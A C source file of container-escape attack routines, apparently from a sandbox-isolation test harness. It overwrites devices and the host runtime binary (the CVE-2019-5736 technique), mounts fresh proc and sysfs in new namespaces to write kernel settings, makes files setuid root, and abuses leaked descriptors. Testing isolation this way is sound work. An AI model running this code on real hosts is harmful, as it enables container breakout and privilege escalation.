// SPDX-License-Identifier: MIT
/* Attacks by devices, descriptors, programs, and files with settings of the host. */
#include "attack.h"

#include <dirent.h>
#include <grp.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

void attack_device(char **args)
{
	for (; *args; args++) {
		int fd = open(*args, O_RDWR | O_CLOEXEC);

		if (fd < 0) {
			printf("open %s: %s\n", *args, strerror(errno));
			continue;
		}
		if (write(fd, "overwritten\n", 12) == 12 && fsync(fd) == 0)
			printf("overwrote %s\n", *args);
		close(fd);
	}
}

/* Makes the device "b:MAJOR:MINOR" in each writable directory. */
void attack_make_devices(char **args)
{
	static char node[] = "/tmp/node", in_dev[] = "/dev/node", in_shm[] = "/dev/shm/node";
	char *nodes[] = { node, in_dev, in_shm, NULL };
	unsigned int major, minor;
	char type;

	if (!*args || sscanf(*args, "%c:%u:%u", &type, &major, &minor) != 3)
		return;
	for (char **path = nodes; *path; path++)
		if (mknod(*path, (type == 'b' ? S_IFBLK : S_IFCHR) | 0666, makedev(major, minor)) == 0)
			printf("made %s\n", *path);
	attack_device(nodes);
}

/* ---- descriptors ---- */

static void use_descriptor(int fd)
{
	char how[64];
	pid_t pid;

	snprintf(how, sizeof(how), "descriptor %d", fd);
	look_from(fd, how);
	if (fchdir(fd) == 0)
		for (int i = 0; i < 12; i++) {
			look_from(AT_FDCWD, how);
			if (chdir("..") < 0)
				break;
		}
	pid = fork();
	if (pid == 0) {
		if (setns(fd, 0) == 0)
			look_in("/");
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

/* Uses all open descriptors. The test lists them from outside. */
void attack_descriptors(char **args)
{
	(void)args;
	for (int fd = 0; fd < 256; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			use_descriptor(fd);
	wait_for_judge();
}

/* ---- settings ---- */

static void overwrite(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0) {
		printf("open %s: %s\n", path, strerror(errno));
		return;
	}
	if (write(fd, text, strlen(text)) > 0)
		printf("wrote %s\n", path);
	close(fd);
}

static void overwrite_all(char **args, const char *prefix)
{
	char path[4352];

	for (; args[0] && args[1]; args += 2) {
		snprintf(path, sizeof(path), "%s%s", prefix, args[0]);
		overwrite(path, args[1]);
	}
}

/* Mounts new instances of filesystems, in which nothing is covered. */
static void new_filesystems(void)
{
	mkdir("/tmp/new", 0755);
	mkdir("/tmp/new/proc", 0755);
	mkdir("/tmp/new/sys", 0755);
	if (mount("proc", "/tmp/new/proc", "proc", 0, NULL) == 0)
		printf("mounted a proc\n");
	if (mount("sysfs", "/tmp/new/sys", "sysfs", 0, NULL) == 0)
		printf("mounted a sysfs\n");
}

static void in_child(int namespaces, void (*body)(char **), char **args)
{
	pid_t child = fork();

	if (child == 0) {
		if (unshare(namespaces) == 0) {
			pid_t second = fork(); /* it is in the new PID namespace */

			if (second == 0) {
				body(args);
				_exit(0);
			}
			waitpid(second, NULL, 0);
		}
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static void overwrite_by_new(char **args)
{
	new_filesystems();
	overwrite_all(args, "/tmp/new");
}

/* PATH TEXT: writes TEXT to PATH, also after making it writable, and in a new filesystem. */
void attack_overwrite(char **args)
{
	static const char *const places[] = { "/sys", "/proc/sys", "/proc", "/proc/sys/kernel" };

	overwrite_all(args, "");
	overwrite_by_new(args);
	in_child(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET, overwrite_by_new, args);
	for (size_t i = 0; i < sizeof(places) / sizeof(*places); i++)
		mount(NULL, places[i], NULL, MS_REMOUNT | MS_BIND, NULL);
	overwrite_all(args, "");
	for (size_t i = 0; i < sizeof(places) / sizeof(*places); i++)
		umount2(places[i], MNT_DETACH);
	overwrite_all(args, "");
}

static void show(const char *path)
{
	char text[64];
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd >= 0 && read(fd, text, sizeof(text)) > 0)
		printf("has %s\n", path);
	if (fd >= 0)
		close(fd);
}

static void show_by_new(char **args)
{
	char path[4352];

	new_filesystems();
	for (; *args; args++) {
		snprintf(path, sizeof(path), "/tmp/new%s", *args);
		show(path);
	}
}

/* Prints the readable ones of ARGS: in place, uncovered, and in a new filesystem. */
void attack_masked(char **args)
{
	for (char **path = args; *path; path++)
		show(*path);
	show_by_new(args);
	in_child(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID, show_by_new, args);
	for (char **path = args; *path; path++) {
		umount2(*path, MNT_DETACH);
		show(*path);
	}
}

/* ---- programs ---- */

static int held[64], n_held;

static void hold(const char *path)
{
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (fd >= 0 && n_held < 64)
		held[n_held++] = fd;
}

static void hold_program_of(pid_t pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	hold(path);
}

static void overwrite_held(int fd)
{
	char path[64];
	int writable;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	writable = open(path, O_WRONLY | O_CLOEXEC);
	if (writable < 0)
		return;
	if (pwrite(writable, "#!OVERWRITTEN", 13, 0) == 13)
		printf("overwrote a program\n");
	close(writable);
}

/*
 * CVE-2019-5736: writes to the program that started the container. While that runs it cannot be opened
 * for writing. So a child keeps a descriptor until it has exited, in a session of its own.
 */
void attack_programs(char **args)
{
	hold_program_of(1);
	each_process(hold_program_of);
	for (; *args; args++)
		hold(*args);
	if (fork() == 0) {
		setsid();
		for (int round = 0; round < 100; round++, usleep(10000))
			for (int i = 0; i < n_held; i++)
				overwrite_held(held[i]);
		_exit(0);
	}
	for (int round = 0; round < 10; round++, usleep(10000))
		for (int i = 0; i < n_held; i++)
			overwrite_held(held[i]);
}

/* CVE-2021-41103: makes PATH a program that other users run as its owner. */
void attack_setuid(char **args)
{
	for (; *args; args++) {
		if (chown(*args, 0, 0) < 0)
			printf("chown %s: %s\n", *args, strerror(errno));
		if (chmod(*args, 04755) < 0)
			printf("chmod %s: %s\n", *args, strerror(errno));
	}
}

/* Prints the IDs of this program, which may be setuid. */
void attack_whoami(char **args)
{
	(void)args;
	printf("user %d, group %d\n", (int)geteuid(), (int)getegid());
}

/* ID PROGRAM [ARGUMENT]...: runs it as another user. */
void attack_as(char **args)
{
	uid_t id = args[0] ? (uid_t)atoi(args[0]) : 0;

	if (setgroups(0, NULL) < 0)
		printf("setgroups: %s\n", strerror(errno));
	if (args[0] && setresgid(id, id, id) == 0 && setresuid(id, id, id) == 0)
		execv(args[1], args + 1);
	printf("%s as another user: %s\n", args[1], strerror(errno));
}
